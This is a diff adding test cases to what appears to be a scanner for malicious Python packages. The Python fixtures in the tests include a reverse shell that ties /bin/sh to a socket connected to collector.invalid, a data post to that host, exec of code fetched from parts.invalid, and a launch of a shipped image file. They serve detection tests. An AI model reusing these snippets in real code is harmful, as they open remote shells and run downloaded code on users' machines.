@@ -2,6 +2,7 @@ import { expect, test } from 'vitest';
 import type { Rule } from '../../src/core/rule.js';
 import downloadThenRun from '../../src/rules/download-then-run.js';
 import parameterToNetwork from '../../src/rules/parameter-to-network.js';
+import reverseShell from '../../src/rules/reverse-shell.js';
 import runsShippedData from '../../src/rules/runs-shipped-data.js';
 import { read } from '../python/reading.js';
 
@@ -52,4 +53,29 @@ const paying = (data: string): readonly string[] => ['from web3 import Web3', 'd
 test('a payment that is signed shows what stands in it, and not what it is signed with', async () => {
   expect(await severities(parameterToNetwork, paying('private_key'))).toEqual(['medium']);
   expect(await severities(parameterToNetwork, paying('"0x"'))).toEqual([]);
+});
+
+test('what a replaced function was given is given away, encrypted as well: nobody else can read it', async () => {
+  expect(await severities(parameterToNetwork, replacing('meadow.gate', 'requests.post("https://collector.invalid", data=KEY.encrypt(result))'))).toEqual(['critical']);
+});
+
+const tied = (source: string): readonly string[] => ['import os, pty, socket', 'def opened():', '    line = socket.socket()', '    line.connect(("collector.invalid", 80))', '    return line', 'def tie(line):', '    for number in range(3):', `        os.dup2(${source}, number)`, '    pty.spawn("/bin/sh")', 'tie(opened())'];
+
+test('a shell that is tied to a connection which another function has opened is given away', async () => {
+  expect(await severities(reverseShell, tied('line.fileno()'))).toEqual(['critical']);
+  expect(await severities(reverseShell, tied('os.open("/dev/null", os.O_RDWR)'))).toEqual([]);
+});
+
+const calledInTurn = (names: string): readonly string[] => ['import requests', 'class Steps:', '    def begin(self):', `        for name in ${names}:`, '            getattr(self, name)()', '    def grow(self):', '        exec(requests.get("https://parts.invalid/core").text)', 'Steps().begin()'];
+
+test('whoever calls methods by names that are not known calls each of them', async () => {
+  expect(await severities(downloadThenRun, calledInTurn('dir(self)'))).toEqual(['critical']);
+  expect(await severities(downloadThenRun, calledInTurn('("begin_again",)'))).toEqual(['medium']);
+});
+
+const starting = (file: string): readonly string[] => ['import shutil, subprocess', `shutil.copyfile("${file}", "/tmp/part")`, 'subprocess.Popen(["/tmp/part"])'];
+
+test('a picture that is started blocks; another file that the package brings warns', async () => {
+  expect(await severities(runsShippedData, starting('logo.png'))).toEqual(['critical']);
+  expect(await severities(runsShippedData, starting('words.dat'))).toEqual(['medium']);
 });
